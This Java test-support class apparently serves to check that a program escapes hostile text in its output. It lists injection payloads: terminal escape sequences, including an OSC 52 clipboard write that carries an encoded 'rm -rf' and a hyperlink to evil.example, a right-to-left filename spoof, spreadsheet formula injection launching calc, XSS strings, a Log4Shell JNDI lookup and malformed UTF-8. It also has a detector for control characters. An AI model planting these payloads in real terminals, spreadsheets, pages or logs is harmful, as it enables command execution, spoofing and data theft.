package io.github.tcpwalk.testing;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.CharacterCodingException;
import java.nio.charset.StandardCharsets;
import java.util.List;

/** What a stranger writes to command a terminal, to mislead a reader, to run in a page or a spreadsheet. */
public final class Hostile {
    /** As text; each may be a name, a comment, a payload. */
    public static final List<String> TEXTS = List.of(
            "\033[2J\033[5;41mred\033[m",
            "\033]0;title\007\033]52;c;cm0gLXJm\007",
            "\033]8;;http://evil.example/\033\\click\033]8;;\033\\",
            "\u009B31m\u009D52;c;eA==\u009C\u0085\u0090q\u009C",
            "gpj.\u202Eexe\u202C \u2066x\u2069 \u200F\u200E\u061C",
            "line\nforged: line\r\nagain\rover\u2028two\u2029\u000B\f\b",
            "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>&amp;]]>",
            "=cmd|' /C calc'!A0",
            "+1+1\",\"=2",
            "-2+3",
            "@SUM(1+1)",
            "\t=1+1",
            "\uFF1D1",
            "\u0000nul\u0001\u007F",
            "\uFEFFmark \uFFFD \uD800 half",
            "{\"a\":1}\n- yaml: [",
            "${jndi:ldap://x/} %n%s%1$s {0} {count, select, 1{x}}");

    private Hostile() {}

    /** Every octet once. */
    public static byte[] everyOctet() {
        byte[] all = new byte[256];
        for (int i = 0; i < all.length; i++) {
            all[i] = (byte) i;
        }
        return all;
    }

    /** The texts as octets, every octet, and what is no UTF-8: too long forms, a half of a pair, an end in between. */
    public static List<byte[]> octets() {
        List<byte[]> all = new java.util.ArrayList<>();
        TEXTS.forEach(text -> all.add(text.getBytes(StandardCharsets.UTF_8)));
        all.add(everyOctet());
        all.add(new byte[] {(byte) 0xC0, (byte) 0x9B, '3', '1', 'm', (byte) 0xE0, (byte) 0x80, (byte) 0x9B});
        all.add(new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80, (byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80});
        all.add(new byte[] {'x', (byte) 0xE2, (byte) 0x80});
        all.add(new byte[] {(byte) 0x9B, '2', 'J', (byte) 0x1B, 'c'});
        return all;
    }

    /** All of them in a row. */
    public static byte[] everything() {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        octets().forEach(all::writeBytes);
        return all.toByteArray();
    }

    /**
     * The first thing in {@code printed} that could command a terminal or reorder a line, decided without the product's
     * own escaping; null when there is none.
     *
     * @param allowed controls that the format uses
     */
    public static String harmIn(byte[] printed, String allowed) {
        String text;
        try {
            text = StandardCharsets.UTF_8
                    .newDecoder()
                    .decode(ByteBuffer.wrap(printed))
                    .toString();
        } catch (CharacterCodingException e) {
            return "octets that are no UTF-8";
        }
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (isHarmful(c) && allowed.indexOf(c) < 0) {
                int from = Math.max(0, i - 60);
                return String.format("U+%04X behind '%s'", (int) c, text.substring(from, i));
            }
        }
        return null;
    }

    private static boolean isHarmful(char c) {
        return c < ' '
                || c >= 0x7F && c < 0xA0
                || c == 0x061C
                || c >= 0x200B && c <= 0x200F
                || c >= 0x2028 && c <= 0x202E
                || c >= 0x2060 && c <= 0x206F
                || c == 0xFEFF;
    }
}
